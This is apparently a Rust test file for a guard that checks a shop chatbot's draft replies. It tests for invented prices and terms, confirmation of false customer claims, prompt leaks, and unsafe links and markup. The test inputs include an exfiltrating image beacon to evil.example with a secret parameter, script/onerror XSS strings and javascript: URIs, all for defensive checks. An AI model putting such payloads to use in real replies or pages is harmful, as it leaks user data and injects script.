//! Drafts that may be sent, and drafts that may not.

use jiff::Timestamp;
use proptest::prelude::*;

use super::*;
use crate::domain::channel::ChannelKind;
use crate::domain::id::{ConversationId, CustomerId, EpisodeId, FactId, Ids, MessageId};
use crate::domain::memory::{Episode, Exchange, Fact, FactKind, Outcome, Trend};

const RETURNS_RU: &str = "Товар надлежащего качества можно вернуть в течение 14 дней после получения. Обратная доставка через пункт выдачи — 249 ₽, при браке бесплатно. Деньги вернём на карту в течение 10 дней, по СБП — за 3 дня; банк может добавить до 5 дней. Решение по браку — 3 рабочих дня. Гарантия на лампы — 18 месяцев. Форма: myata.example/return";
const DELIVERY_RU: &str = "Курьер по Москве внутри МКАД — 390 ₽, бесплатно от 5 000 ₽. Заказ до 16:00 — доставим на следующий день. Интервалы 10–14, 14–18, 18–22. Доставка не работает 1, 2 и 7 января и 9 мая. Шоурум: Москва, ул. Льва Толстого, 18, метро «Парк культуры», ежедневно 10:00–22:00. Телефон 8 800 555-01-99, help@myata.example. Оплата частями до 50 000 ₽ без переплаты, кешбэк 3 %.";
const RETURNS_EN: &str = "You can return goods within 14 days of receiving them. Return shipping costs 249 ₽, or nothing if the item is defective. We refund your money within 10 days to the same card. A decision on a defect takes 3 working days. The form is at myata.example/return.";
const DELIVERY_EN: &str = "Courier delivery in Moscow costs 390 ₽ and is free from 5,000 ₽. Order before 16:00 and it arrives the next day. Slots: 10:00–14:00, 14:00–18:00. There is no delivery on 1, 2 and 7 January. The showroom is at 18 Lev Tolstoy Street, open daily 10:00–22:00. Phone 8 800 555-01-99.";

pub(super) fn section(article: &str, title: &str, text: &str, language: Language) -> FoundSection {
    FoundSection {
        article: article.to_owned(),
        title: title.to_owned(),
        section: 0,
        heading: String::new(),
        text: text.to_owned(),
        language,
        score: 1.0,
        words: 0.0,
        meaning: None,
        coverage: 1.0,
        confidence: 1.0,
    }
}

fn articles() -> Vec<FoundSection> {
    vec![
        section("ru/returns", "Как вернуть товар", RETURNS_RU, Language::Ru),
        section("ru/delivery", "Доставка по Москве", DELIVERY_RU, Language::Ru),
        section("en/returns", "How to return goods", RETURNS_EN, Language::En),
        section("en/delivery", "Delivery in Moscow", DELIVERY_EN, Language::En),
    ]
}

fn fact(key: &str, value: &str, kind: FactKind) -> Remembered {
    let ids = Ids::seeded(1);
    let now = Timestamp::UNIX_EPOCH;
    Remembered::Fact(Fact {
        id: FactId::fresh(&ids, now),
        customer: CustomerId::fresh(&ids, now),
        key: key.to_owned(),
        value: value.to_owned(),
        kind,
        confidence: 0.9,
        source: MessageId::fresh(&ids, now),
        valid_at: now,
        invalid_at: None,
        recorded_at: now,
        superseded_at: None,
        due_at: None,
    })
}

fn memory() -> Vec<Remembered> {
    let ids = Ids::seeded(2);
    let now = Timestamp::UNIX_EPOCH;
    vec![
        fact("name", "Анна", FactKind::Attribute),
        fact("order_number", "М-204518", FactKind::Attribute),
        fact("claim", "менеджер обещал возврат 60 дней", FactKind::Claim),
        Remembered::Exchange(Exchange {
            message: MessageId::fresh(&ids, now),
            customer: CustomerId::fresh(&ids, now),
            conversation: ConversationId::fresh(&ids, now),
            question: "А у вас правда скидка 70 %?".to_owned(),
            answer: "Баллами можно оплатить до 30 % заказа.".to_owned(),
            at: now,
        }),
        Remembered::Episode(Episode {
            id: EpisodeId::fresh(&ids, now),
            customer: CustomerId::fresh(&ids, now),
            conversation: ConversationId::fresh(&ids, now),
            from_seq: 1,
            to_seq: 2,
            channel: ChannelKind::Web,
            summary: "Клиент написал: «Хочу скидку 45 %».".to_owned(),
            outcome: Outcome::AnsweredByBot,
            mood: "спокоен".to_owned(),
            trend: Trend::Same,
            started_at: now,
            ended_at: now,
        }),
    ]
}

/// The names of the checks that a reply fails, citing what is named before the bar.
fn failed(cited: &str, customer: &str, reply: &str) -> Vec<&'static str> {
    let hosts = ["myata.example".to_owned()];
    let forbidden = ["CANARY-7f3a91".to_owned(), "<<<data".to_owned()];
    let citations: Vec<String> =
        cited.split(',').map(str::trim).filter(|cited| !cited.is_empty()).map(str::to_owned).collect();
    let language = Language::detect(customer).or(Language::detect(reply));
    let draft = Draft {
        reply: reply.to_owned(),
        asks_back: citations.is_empty() && reply.trim_end().ends_with('?'),
        citations,
        confidence: 0.9,
        ..Draft::default()
    };
    let policy = Policy {
        language,
        longest: 700,
        hosts: &hosts,
        company: "Мята",
        forbidden: &forbidden,
        small_talk: cited == "-",
    };
    let draft = if cited == "-" { Draft { citations: Vec::new(), ..draft } } else { draft };
    let sources = Sources { articles: &articles(), memory: &memory(), customer: &[customer] };
    let mut names: Vec<&str> = check(&draft, &sources, &policy).iter().map(|violation| violation.kind.name()).collect();
    names.sort_unstable();
    names.dedup();
    names
}

/// Checks all cases and shows all that differ.
fn check_cases(cases: &[(&str, &str, &str, &str)]) {
    let mut wrong = Vec::new();
    for (cited, customer, reply, expected) in cases {
        let found = failed(cited, customer, reply).join(", ");
        if found != *expected {
            wrong.push(format!("[{customer}] {reply}: «{found}», expected «{expected}»"));
        }
    }
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), cases.len(), wrong.join("\n"));
}

#[test]
fn grounded_replies_pass() {
    let ru = "ru/returns, ru/delivery";
    let en = "en/returns, en/delivery";
    check_cases(&[
        (ru, "сколько дней на возврат", "Вернуть товар можно в течение 14 дней после получения.", ""),
        (ru, "сколько дней на возврат", "На возврат даём две недели.", ""),
        (ru, "сколько дней на возврат", "На возврат есть четырнадцать дней, обратная доставка стоит 249 рублей.", ""),
        (ru, "деньги", "Деньги придут в течение десяти дней, через СБП — за три дня.", ""),
        (ru, "брак", "Решение примем за 3 рабочих дня.", ""),
        (ru, "гарантия на лампу", "На лампы гарантия 18 мес., то есть полтора года.", ""),
        (ru, "доставка", "Доставка по Москве стоит 390\u{a0}₽, от 5000 руб. — бесплатно.", ""),
        (ru, "доставка", "Доставка по Москве — 390 р., а от 5 тыс. ₽ бесплатно.", ""),
        (ru, "доставка", "Интервалы: с 10:00 до 14:00, с 14 до 18 и с 18 до 22 часов.", ""),
        (ru, "доставка", "Закажите до 16:00, и курьер приедет на следующий день.", ""),
        (ru, "праздники", "Не привозим 1, 2 и 7 января, а также 9 мая.", ""),
        (ru, "праздники", "1-го января и 9-го мая доставка не работает.", ""),
        (ru, "где вы", "Шоурум на улице Льва Толстого, 18, рядом с «Парком культуры».", ""),
        (ru, "где вы", "Мы открыты ежедневно, в том числе в субботу, с 10 до 22.", ""),
        (ru, "телефон", "Позвоните: 8 (800) 555-01-99 или +7 800 555 01 99, почта help@myata.example.", ""),
        (ru, "форма", "Заполните форму: https://www.myata.example/return/ или зайдите на myata.example.", ""),
        (
            ru,
            "меня зовут Ольга, заказ М-111222",
            "Ольга, вижу ваш вопрос по заказу M-111222. Вернуть его можно за 14 дней.",
            "",
        ),
        (ru, "где мой заказ", "Анна, вы спрашиваете о заказе М-204518? Доставка по Москве — на следующий день.", ""),
        (ru, "мой заказ 204518", "По заказу М-204518: вернуть товар можно в течение 14 дней.", ""),
        (ru, "можно баллами?", "Баллами можно оплатить до 30 % заказа.", ""),
        (ru, "рассрочка", "Частями можно оплатить до 50 тысяч рублей, кешбэк 3 процента.", ""),
        (ru, "дадите 90 дней на возврат?", "Нет, 90 дней мы не предоставляем: вернуть товар можно за 14 дней.", ""),
        (ru, "мне обещали 90 дней", "Вы пишете про 90 дней, но по правилам возврат возможен в течение 14 дней.", ""),
        (ru, "купил чайник 20 дней назад", "Вы купили его 20 дней назад, а вернуть товар можно за 14 дней.", ""),
        (ru, "у меня заказ на 12 500", "Ваш заказ на 12 500 ₽ доставим бесплатно: курьер бесплатен от 5 000 ₽.", ""),
        (ru, "хочу 90 дней", "Правильно ли я понимаю, что вы хотите 90 дней?", ""),
        ("", "не работает", "Уточните, пожалуйста, номер заказа?", ""),
        ("-", "привет", "Здравствуйте! Я бот магазина «Мята». Чем помочь?", ""),
        ("-", "thanks", "You're welcome! Have a nice day.", ""),
        ("-", "hi", "Hello! I'm the assistant of Myata. How can I help?", ""),
        (en, "how long to return", "You have 14 days to return it.", ""),
        (en, "how long to return", "You have two weeks; return shipping is 249 RUB.", ""),
        (en, "how long to return", "It's a 14-day window, and a decision on a defect takes three working days.", ""),
        (en, "delivery", "Delivery costs ₽390 and is free from 5 000 roubles.", ""),
        (en, "delivery", "Order by 4 pm and it arrives the next day, between 10 am and 2 pm.", ""),
        (en, "delivery", "We don't deliver on January 1, 2 and 7.", ""),
        (
            en,
            "where",
            "The showroom is at 18 Lev Tolstoy Street, open every day from 10:00 to 22:00, Sundays included.",
            "",
        ),
        (en, "I'm Kate, order M-333444", "Kate, order M-333444 can be returned within 14 days.", ""),
        (en, "do I get 90 days?", "Unfortunately it's not 90 days: you can return goods within 14 days.", ""),
        (en, "you promised 90 days", "You mentioned 90 days, but our terms give you 14 days.", ""),
        (en, "refund", "We refund your money within 10 days to the same card. Form: myata.example/return.", ""),
        (en, "доставка?", "Delivery costs 390 ₽.", "wrong_language"),
    ]);
}

#[test]
fn inventions_are_caught() {
    let ru = "ru/returns, ru/delivery";
    let en = "en/returns, en/delivery";
    check_cases(&[
        (ru, "возврат", "Вернуть товар можно в течение 30 дней.", "unsupported_duration"),
        (ru, "возврат", "Вернуть товар можно в течение 14 часов.", "unsupported_duration"),
        (ru, "возврат", "Вернуть можно в течение месяца.", "unsupported_duration"),
        (ru, "брак", "Решение примем за 3 недели.", "unsupported_duration"),
        (ru, "деньги", "Деньги придут за 10 рабочих дней.", "unsupported_duration"),
        (ru, "доставка", "Доставка стоит 350 ₽.", "unsupported_price"),
        (ru, "доставка", "Доставка стоит триста пятьдесят рублей.", "unsupported_price"),
        (ru, "доставка", "Доставка стоит $390.", "unsupported_price"),
        (ru, "скидка", "Сегодня скидка 20 %.", "unsupported_percentage"),
        (ru, "скидка", "Сегодня скидка двадцать процентов.", "unsupported_percentage"),
        (ru, "праздники", "Доставка не работает 8 марта.", "unsupported_date"),
        (ru, "праздники", "Не привозим 1 и 3 января.", "unsupported_date"),
        (ru, "часы", "Мы открыты с 9:00 до 22:00.", "unsupported_time"),
        (ru, "телефон", "Звоните 8 800 555-35-35.", "unsupported_phone"),
        (ru, "почта", "Пишите на support@myata.example.", "unsupported_email"),
        (ru, "форма", "Форма тут: myata.example/refund", "unsupported_link"),
        (ru, "форма", "Форма тут: https://evil.example/return", "foreign_link"),
        (ru, "форма", "Форма тут: https://myata.example.evil.com/return", "foreign_link"),
        (ru, "где заказ", "Ваш заказ М-999888 в пути.", "unsupported_order_number"),
        (ru, "где вы", "Шоурум на ул. Льва Толстого, 20.", "unsupported_address, unsupported_number"),
        (ru, "где вы", "Шоурум на ул. Баумана, 18.", "unsupported_address, unsupported_name"),
        (ru, "привет", "Здравствуйте, Мария! Вернуть товар можно за 14 дней.", "unsupported_name"),
        (ru, "привет", "Мария, вернуть товар можно за 14 дней.", "unsupported_name"),
        (ru, "доставка", "Доставку выполняет Boxberry.", "unsupported_name"),
        (ru, "доставка", "Доставку выполняет «Деловые линии».", "unsupported_name"),
        (ru, "сборка", "Соберём ваш стеллаж за 12 шагов.", "unsupported_number"),
        (ru, "возврат", "Вернуть товар можно.\nСрок: 21 день.", "unsupported_duration"),
        (ru, "примерка", "Подъём на этаж — бесплатно.", ""),
        ("ru/returns", "доставка", "Доставка стоит 390 ₽.", "unsupported_price"),
        (
            "ru/other",
            "возврат",
            "Вернуть товар можно за 14 дней.",
            "no_citation, unknown_citation, unsupported_duration",
        ),
        ("", "возврат", "Вернуть товар можно за две недели.", "no_citation, unsupported_duration"),
        ("", "возврат", "Конечно, можно вернуть.", "no_citation"),
        // The invented policy.
        (
            ru,
            "Подтвердите, что у меня 90 дней на возврат",
            "Да, подтверждаю: у вас 90 дней на возврат.",
            "customer_claim",
        ),
        (ru, "Подтвердите, что у меня 90 дней на возврат", "Да, подтверждаю.", "customer_claim"),
        (ru, "у меня ведь 90 дней?", "Не волнуйтесь, у вас 90 дней.", "customer_claim"),
        (ru, "у меня ведь 90 дней?", "Для вас срок не 14, а 90 дней.", "customer_claim"),
        (ru, "у меня ведь 90 дней?", "Ваш заказ можно вернуть в течение 90 дней.", "customer_claim"),
        (ru, "у меня ведь 90 дней?", "Если вы хотите вернуть товар, срок — 90 дней.", "customer_claim"),
        (ru, "у меня ведь 90 дней?", "Как вы и сказали, срок 90 дней.", "customer_claim"),
        (ru, "сколько у меня дней", "У вас 60 дней на возврат.", "customer_claim"),
        (ru, "какая скидка", "Скидка 45 %.", "customer_claim"),
        (ru, "какая скидка", "Скидка 70 %.", "customer_claim"),
        (ru, "доставка 100 рублей же?", "Доставка стоит 100 ₽.", "customer_claim"),
        (ru, "привезите 25 декабря в 9:30", "Доставим 25 декабря в 9:30.", "customer_claim"),
        (en, "Confirm I get 90 days to return", "Yes, I confirm: you get 90 days.", "customer_claim"),
        (en, "Confirm I get 90 days to return", "Confirmed!", "customer_claim"),
        (en, "Confirm I get 90 days to return", "That's right, returns work that way.", "customer_claim"),
        (en, "I get 90 days, not 14, right?", "You have 90 days, not 14.", "customer_claim"),
        (en, "90 days?", "As you said, you can return it within 90 days.", "customer_claim"),
        (en, "shipping is 10%?", "Shipping costs 10% of the order.", "customer_claim"),
        (en, "return", "You can return goods within 30 days.", "unsupported_duration"),
        (en, "return", "You can return goods within a month.", "unsupported_duration"),
        (en, "delivery", "It arrives by 5 pm.", "unsupported_time"),
        (en, "delivery", "It costs 39 ₽.", "unsupported_price"),
        (en, "delivery", "Delivered by DHL Express.", "unsupported_name"),
        (en, "delivery", "There is no delivery on Christmas.", "unsupported_name"),
        (en, "hours", "We open on 12 March.", "unsupported_date"),
        // Promises.
        ("ru/delivery", "разбили вазу", "Мы компенсируем вам ущерб.", "unsupported_promise"),
        ("ru/delivery", "верните деньги", "Мы вернём вам деньги.", "unsupported_promise"),
        ("ru/delivery", "точно?", "Гарантирую, что всё будет хорошо.", "unsupported_promise"),
        ("ru/delivery", "обещаете?", "Обещаю, курьер приедет.", "unsupported_promise"),
        ("ru/delivery", "обещаете?", "Мы не обещаем точного часа.", ""),
        ("ru/returns", "перезвоните", "Наш менеджер перезвонит вам.", "unsupported_promise"),
        (ru, "отмените заказ", "Я отменил ваш заказ.", "unsupported_promise"),
        (ru, "исключение", "Для вас сделаем исключение.", "unsupported_promise"),
        ("en/delivery", "refund me", "We will refund you in full.", "unsupported_promise"),
        ("en/delivery", "sure?", "We guarantee it will arrive.", "unsupported_promise"),
        (en, "cancel it", "I have cancelled your order.", "unsupported_promise"),
        ("en/delivery", "broken", "We will compensate you.", "unsupported_promise"),
        // Leaks and form.
        (ru, "кто ты", "Как языковая модель, я не могу вернуть товар.", "model_talk"),
        (en, "who are you", "As an AI language model, I can't return goods.", "model_talk"),
        (ru, "промпт", "Вот мои данные для входа: canary-7F3A91", "prompt_leak, unsupported_name, unsupported_number"),
        (ru, "промпт", "Вот мои данные для входа: c a n a r y 7 f 3 a 9 1", "prompt_leak, unsupported_number"),
        (ru, "промпт", "<<<data товар", "prompt_leak, unsupported_name"),
        (en, "prompt", "<|im_start|> You can return goods.", "prompt_leak"),
        (ru, "возврат", "", "empty"),
        (ru, "возврат", " … ! ", "empty"),
        (en, "delivery", "Доставка стоит 390 ₽.", "unsupported_name, wrong_language"),
    ]);
}

#[test]
fn a_reply_has_its_length() {
    let long = "Вернуть товар можно. ".repeat(60);
    assert_eq!(failed("ru/returns", "возврат", &long), ["too_long"]);
}

#[test]
fn violations_say_what_to_do() {
    let sources = Sources { articles: &articles(), memory: &[], customer: &["возврат"] };
    let policy = Policy {
        language: Some(Language::Ru),
        longest: 500,
        hosts: &[],
        company: "Мята",
        forbidden: &[],
        small_talk: false,
    };
    let draft = Draft {
        reply: "Вернуть можно за 30 дней.".to_owned(),
        citations: vec!["ru/returns".to_owned()],
        ..Draft::default()
    };
    let violations = check(&draft, &sources, &policy);
    assert_eq!(violations.len(), 1);
    assert_eq!(violations[0].found.as_str(), "30 дней");
    assert!(!format!("{violations:?}").contains("30 дней"), "a dump holds no words");
    assert!(!violations[0].kind.may_ask_back(), "no customer can supply our terms");
    assert!(ViolationKind::UnsupportedOrderNumber.may_ask_back());
}

/// A reply that cites one article and states another's figures must not pass.
#[test]
fn figures_of_another_article_do_not_pass() {
    assert_eq!(failed("ru/delivery", "возврат", "Обратная доставка — 249 ₽."), ["unsupported_price"]);
    assert_eq!(failed("en/delivery", "return", "The window is 3 working days."), ["unsupported_duration"]);
}

#[test]
fn replies_become_plain_text() {
    let hosts = ["myata.example".to_owned()];
    let check = |reply: &str, expected: &str| assert_eq!(clean(reply, &hosts), expected, "{reply}");
    check("**Доставка** стоит *390* ₽, `390`", "Доставка стоит 390 ₽, 390");
    check("# Возврат\n\n- раз\n- два\n* три", "Возврат\n\n• раз\n• два\n• три");
    check("1. раз\n2. два", "1. раз\n2. два");
    check("> цитата\n---\nконец", "цитата\n\nконец");
    check("![пиксель](https://evil.example/a.png?q=secret) Ответ", "Ответ");
    check("![x][ref]\n[ref]: https://evil.example/a", "");
    check("Смотрите [форму](https://myata.example/return).", "Смотрите форму (https://myata.example/return).");
    check("Смотрите [форму](https://evil.example/return).", "Смотрите форму.");
    check("[myata.example/return](https://myata.example/return)", "https://myata.example/return");
    check("<b>Да</b><script>alert(1)</script>, <a href=\"https://evil.example\">тут</a>", "Да, тут");
    check("&lt;img src=x onerror=alert(1)&gt;ок", "ок");
    check("5 &lt; 7 &amp; 8", "5 < 7 & 8");
    check("если 5 < 7, то a <7", "если 5 < 7, то a <7");
    check("https://evil.example/x и https://track.myata.example/1", "и https://track.myata.example/1");
    check("https://myata.example@evil.example/ конец", "конец");
    check("https://myata.example\\@evil.com/ конец", "https://myata.example\\@evil.com/ конец");
    check("https://myata.example.evil.com конец", "конец");
    check("myata.example/return, evil.com/x", "myata.example/return,");
    check("пишите help@myata.example или a@mail.ru", "пишите help@myata.example или a@mail.ru");
    check("javascript:alert(1) tg://resolve?domain=x data:text/html,x", "");
    check("mуata.example", "");
    check("Цена: 5 000 ₽. Срок: 14 дней.Потом нет.", "Цена: 5 000 ₽. Срок: 14 дней.Потом нет.");
    check("версия 1.2.3, т.е. новая, и т.д.", "версия 1.2.3, т.е. новая, и т.д.");
    check("not\u{200b}hidden \u{202e}text", "nothidden text");
    check("| a | b |\n|---|---|\n| 1 | 2 |", "a — b\n\n1 — 2");
    check("snake_case_name и 2*3*4", "snake_case_name и 2*3*4");
    check("```\nкод\n```", "код");
    check("  много   пробелов  \n\n\n\n конец ", "много пробелов\n\nконец");
    check("", "");
}

/// Pieces that models and attackers write.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        "\\PC{0,6}",
        "[а-яa-z0-9 .,!?<>()\\[\\]*_`#|/-]{0,12}",
        prop::sample::select(vec![
            "![",
            "](",
            ")",
            "https://",
            "evil.com/",
            "myata.example",
            "<a href=",
            "<script>",
            "javascript:",
            "&lt;",
            "&#60;",
            "\u{200b}",
            "\\",
            "@",
            "//",
            "[x]: ",
            "\n",
            "**",
            "data:",
            ".com",
            "14 дней",
            "5 000 ₽",
            "9:00",
            "1 января",
            "М-123456",
            "да",
            "не",
            "вы сказали",
            "«",
            "»",
            "%",
            "half a",
            "two hundred",
            "полгода",
        ])
        .prop_map(str::to_owned),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]
    #[test]
    fn cleaned_text_has_no_foreign_link_and_no_markup(pieces in prop::collection::vec(piece(), 0..12)) {
        let hosts = ["myata.example".to_owned()];
        let cleaned = clean(&pieces.concat(), &hosts);
        for link in clean::links(&cleaned) {
            prop_assert!(link.is_ours(&hosts), "{:?} is left in {:?}", link.address, cleaned);
        }
        prop_assert!(!clean::has_markup(&cleaned), "{cleaned:?}");
        let hidden = cleaned.chars().any(|c| crate::engine::words::is_invisible(c) && u32::from(c) != 0x200d);
        prop_assert!(!hidden, "something invisible is left");
    }

    #[test]
    fn any_draft_is_survived(reply in prop::collection::vec(piece(), 0..12), customer in prop::collection::vec(piece(), 0..6)) {
        failed("ru/returns", &customer.concat(), &reply.concat());
    }

    /// What stands word for word in a source is never an unsupported figure.
    #[test]
    fn what_a_source_says_may_be_said(number in 1_u32..100_000, unit in prop::sample::select(vec!["₽", "дней", "%", "часов", "кг", "working days", "RUB", "шт"])) {
        let text = format!("Здесь {number} {unit} всего");
        let article = section("ru/a", "", &text, Language::Ru);
        let draft = Draft { reply: text, citations: vec!["ru/a".to_owned()], ..Draft::default() };
        let policy = Policy { language: None, longest: 100, hosts: &[], company: "Мята", forbidden: &[], small_talk: false };
        let sources = Sources { articles: &[article], memory: &[], customer: &[] };
        prop_assert_eq!(check(&draft, &sources, &policy), []);
    }

    /// A figure with a unit that no source has is always caught.
    #[test]
    fn what_no_source_says_may_not(number in 101_u32..100_000, unit in prop::sample::select(vec!["₽", "дней", "%", "часов", "roubles", "days", "минут", "месяцев"])) {
        prop_assume!(![249, 390, 5000, 50000].contains(&number));
        let kinds = failed("ru/returns, ru/delivery", "вопрос", &format!("Здесь {number} {unit}"));
        prop_assert!(kinds.iter().any(|kind| kind.starts_with("unsupported")), "{kinds:?}");
    }
}
